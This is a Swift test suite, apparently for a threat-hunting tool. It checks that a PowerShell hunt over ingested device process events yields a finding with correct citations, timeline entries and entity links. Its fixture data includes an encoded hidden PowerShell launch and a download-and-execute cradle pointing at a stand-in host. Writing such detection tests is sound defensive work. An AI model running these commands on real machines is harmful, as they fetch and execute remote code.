import Diagnostics
import Foundation
import Hunting
import Investigation
import JSON
import Testing

@Suite("The evidence of hunts over other tables than Okta's")
struct HuntEvidenceTests {
    /// Two processes on ws-1 by alice, whom the demo log knows, within the four hours before its end.
    private static let processes = [
        ("2025-11-12T18:30:00Z", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAxAA==", 41),
        ("2025-11-12T19:00:00Z", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", 42),
    ].map { time, line, id in
        #"{"TimeGenerated":"\#(time)","DeviceName":"ws-1","AccountName":"alice","FileName":"powershell.exe","#
            + #""ProcessCommandLine":"\#(line)","InitiatingProcessFileName":"explorer.exe","ReportId":\#(id)}"#
    }.joined(separator: "\n")

    private func hunted(_ folder: TemporaryFolder) async throws -> (session: Session, finding: String) {
        let session = try await session(in: folder)
        _ = try await session.perform(.ingest(.init(paths: [demo])), words: ["ingest"])
        let path = try folder.write(Self.processes, to: "processes.ndjson")
        _ = try await session.perform(
            .ingestTable(TableRequest(name: "DeviceProcessEvents", path: path)), words: ["ingest"])
        let question = "malicious PowerShell on host ws-1 in the past four hours"
        let result = try await session.perform(.hunt(HuntRequest(question)), words: ["hunt"]).json
        return (session, try #require(result["finding_ids"]?.strings?.first))
    }

    @Test("The finding names no event of Okta; why, timeline and entity tell of the rows it cites")
    func told() async throws {
        let folder = try TemporaryFolder()
        let (session, id) = try await hunted(folder)
        let why = try await session.perform(.why(id), words: ["why"]).json
        #expect(why[path: "finding.okta_event_ids"]?.array?.isEmpty == true && why["events"]?.array?.isEmpty == true)
        #expect(why[path: "finding.created_at"]?.string == "2025-11-12T19:00:00Z")
        #expect(why[path: "finding.user_id"]?.string == "alice")
        let cited = (why["cited"]?.array ?? []).compactMap { CitedRow(json: $0) }
        #expect(cited.map(\.table) == ["DeviceProcessEvents"])
        #expect(cited.map { "\($0.id?.key ?? "") \($0.id?.value.string ?? "")" } == ["ReportId 42"])
        for name in [id, "alice"] {
            let entries =
                try await session.perform(.timeline(of: name, EventFilter()), words: ["timeline"]).json.array ?? []
            let rows = entries.filter { $0["table"]?.string == "DeviceProcessEvents" }
            #expect(
                rows.contains { $0["finding_ids"]?.strings == [id] && $0["time"]?.string == "2025-11-12T19:00:00Z" })
        }
        let story = try await session.perform(.entity("alice"), words: ["entity"]).json
        #expect(story["findings"]?.array?.contains { $0["id"]?.string == id } == true)
        #expect(
            try await session.perform(.entity(id), words: ["entity"]).json["login"]?.string?.hasPrefix("alice") != false
        )
        try await session.end()
    }

    @Test("A timeline's window holds for the rows, too")
    func window() async throws {
        let (session, id) = try await hunted(try TemporaryFolder())
        var filter = EventFilter()
        filter.until = "2025-11-12T18:45:00Z"
        let entries = try await session.perform(.timeline(of: id, filter), words: ["timeline"]).json.array
        #expect(entries?.isEmpty == true)
        try await session.end()
    }
}
